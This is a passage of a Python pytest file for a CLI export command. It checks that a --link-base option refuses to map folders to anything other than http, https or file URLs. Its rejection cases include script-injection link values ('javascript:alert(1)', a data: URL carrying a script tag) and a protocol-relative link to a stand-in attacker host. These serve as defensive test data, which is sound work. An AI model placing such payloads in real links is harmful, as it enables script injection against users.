    assert links["glm5-nvfp4-sm120-deepgemm-ue8m0-nan"] == (
        "https://github.com/org/deploykb/blob/main/findings/glm5-nvfp4-sm120-deepgemm-ue8m0-nan.md"
    )


def test_cli_link_base_folder_that_does_not_exist(fake_index, tmp_path):
    result = runner.invoke(app, ["export", "--link-base", f"{tmp_path}/nope=https://x/"])
    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: --link-base '{tmp_path}/nope=https://x/': '{tmp_path}/nope' is not a folder; "
        "write FOLDER=URL or a plain URL for the shipped findings\n"
    )
    assert fake_index == []


@pytest.mark.parametrize(
    "value, url",
    [
        ("{tmp}=javascript:alert(1)//", "javascript:alert(1)//"),
        ("javascript:alert(1)//", "javascript:alert(1)//"),
        ("{tmp}=data:text/html,<script>x</script>", "data:text/html,<script>x</script>"),
        ("{tmp}=https:no-host", "https:no-host"),
        ("{tmp}=//evil.example/", "//evil.example/"),
    ],
)
def test_link_base_takes_only_web_and_file_addresses(tmp_path, value, url):
    value = value.replace("{tmp}", str(tmp_path))
    with pytest.raises(ExportError) as exc:
        folder_links([value], tmp_path, tmp_path)
    assert str(exc.value) == (
        f"--link-base {value!r}: {url!r} is not an http://, https:// or file:// address; "
        "a link may point only to a web page or a file"
    )


def test_link_base_accepts_http_https_and_file(tmp_path):
    for url in ("http://kb.lan/x/", "https://github.com/o/r/blob/main/f/", "file:///srv/kb/"):
        assert folder_links([f"{tmp_path}={url}"], tmp_path, tmp_path).folders[0][1] == url
